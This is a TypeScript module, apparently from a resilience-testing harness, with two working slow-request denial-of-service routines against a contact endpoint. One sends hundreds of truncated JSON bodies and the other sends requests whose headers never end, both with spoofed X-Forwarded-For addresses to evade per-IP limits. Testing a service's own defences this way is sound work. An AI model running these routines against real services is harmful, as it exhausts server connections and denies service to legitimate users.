import { connect } from 'node:net'
import { type Attack, inBursts } from './attack.ts'

/** Opens a connection, sends `text` and nothing more, and says what came back until it was closed. */
async function sendHalf(url: string, text: string): Promise<string> {
  const { hostname, port } = new URL(url)
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname)
    let answer = ''
    socket.setTimeout(90_000, () => socket.destroy())
    socket.on('data', (part) => (answer += part.toString('latin1')))
    socket.on('error', () => {})
    socket.on('close', () => {
      const [, status] = /^HTTP\/1\.1 (\d+)/.exec(answer) ?? []
      const [, code] = /"code":"(\w+)"/.exec(answer) ?? []
      resolve(status ? `${status} ${code ?? ''}`.trim() : 'closed')
    })
    socket.write(text)
  })
}

const head = (address: number): string =>
  `POST /v1/contact HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n` +
  `X-Forwarded-For: 198.51.100.${address}\r\nContent-Length: 4000\r\n`

/** Six hundred bodies of which a part is sent, from twelve addresses. */
export const halfBodies: Attack = async (target, note) => {
  await inBursts(2, target, async () =>
    Promise.all(
      Array.from({ length: 600 }, async (_, count) => {
        const text = `${head(count % 12)}\r\n{"message":"${'a'.repeat(3000)}`
        note(await sendHalf(target.url, text))
      }),
    ),
  )
}

/** Two hundred requests whose headers do not end. */
export const halfHeaders: Attack = async (target, note) => {
  await inBursts(2, target, async () =>
    Promise.all(
      Array.from({ length: 200 }, async (_, count) =>
        note(await sendHalf(target.url, head(count))),
      ),
    ),
  )
}
